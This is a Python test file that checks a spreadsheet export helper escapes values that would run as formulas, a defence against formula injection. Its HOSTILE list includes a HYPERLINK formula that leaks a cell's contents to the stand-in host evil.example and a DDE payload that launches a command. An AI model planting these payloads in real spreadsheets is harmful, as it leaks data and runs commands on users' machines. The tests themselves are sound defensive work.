import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from halls.exports import Sheet, read_workbook_rows, safe_cell, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


def test_harmless_values_pass_through():
    assert safe_cell("张三 = 李四") == "张三 = 李四"
    assert (
        safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell(None) is None and safe_cell(True) is True
    )
    shanghai = datetime(2026, 11, 27, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    assert safe_cell(shanghai) == datetime(2026, 11, 27, 10, 0)


def test_hostile_values_round_trip_as_text_and_never_as_formulas():
    content = workbook_bytes([Sheet(title="=evil", headers=["=header", "n"], rows=[[v, 1] for v in HOSTILE])])
    rows = read_workbook_rows(content)
    (title,) = rows
    assert title == "'=evil"
    assert rows[title][0] == ("'=header", "n")
    # XML stores a carriage return as a line feed; the apostrophe is what matters.
    assert [row[0] for row in rows[title][1:]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    worksheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in worksheet.iter_rows() for cell in row)
